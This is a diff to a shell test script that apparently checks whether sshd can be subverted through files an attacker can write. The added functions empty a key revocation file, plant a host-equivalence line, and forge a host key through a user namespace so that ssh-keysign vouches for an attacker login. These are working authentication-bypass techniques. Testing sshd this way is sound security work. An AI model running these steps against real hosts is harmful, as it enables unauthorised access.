@@ -3,6 +3,9 @@
 #	ca	a CA of their own, which certifies their key for the principal that stands behind FILE
 #	principal	that of their certificate ~/mine-cert.pub, which stands behind FILE
 #	config	that their key opens every account, after which sshd reads its configuration anew
+#	revoked	nothing: the file is empty then, and they log in with their key ~/mine
+#	equiv	a line that lets them in by the word of hostb's host key
+#	known	a key of their own as hostb's host key, which is then what vouches for them
 #	program	a command that prints a key of their own, to be run by an sshd
 #	login	commands for a shell, which make a setuid shell once `as` logs in
 #	cron	the same as a script, which is run once as cron does, by run-parts
@@ -83,4 +86,28 @@ plant_program() {
 	as_client ssh-keygen -q -t ed25519 -N '' -f /tmp/planted </dev/null
 	plant_text "$1" "echo '$(</tmp/planted.pub)'"
 	plant_ssh
+}
+
+plant_revoked() {
+	as_client bash -c ': >"$1" || { : >"$1.new" && mv -f "$1.new" "$1"; }' plant "$1"
+	plant_ssh "/home/$BY/mine"
+}
+
+plant_equiv() {
+	plant_text "$1" "$SERVER $BY"
+	plant_vouched
+}
+
+plant_vouched() {
+	said=$(as_client "$@" ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+		-o HostbasedAuthentication=yes -o PreferredAuthentications=hostbased -o BindAddress="$SERVER" \
+		"$TO@$SERVER" 'id -u' </dev/null)
+}
+
+# In a name space of their own they are root, under their own name: ssh-keysign signs with their key.
+plant_known() {
+	as_client bash -c 'mkdir /tmp/etc && ssh-keygen -q -t ed25519 -N "" -f /tmp/etc/ssh_host_ed25519_key &&
+		echo EnableSSHKeysign yes >/tmp/etc/ssh_config && echo "$0:x:0:0::/tmp:/bin/bash" >/tmp/etc/passwd' "$BY"
+	plant_text "$1" "$SERVER $(</tmp/etc/ssh_host_ed25519_key.pub)"
+	plant_vouched unshare -rm bash -c 'mount --bind /tmp/etc /etc/ssh && mount --bind /tmp/etc/passwd /etc/passwd && "$@"' as
 }
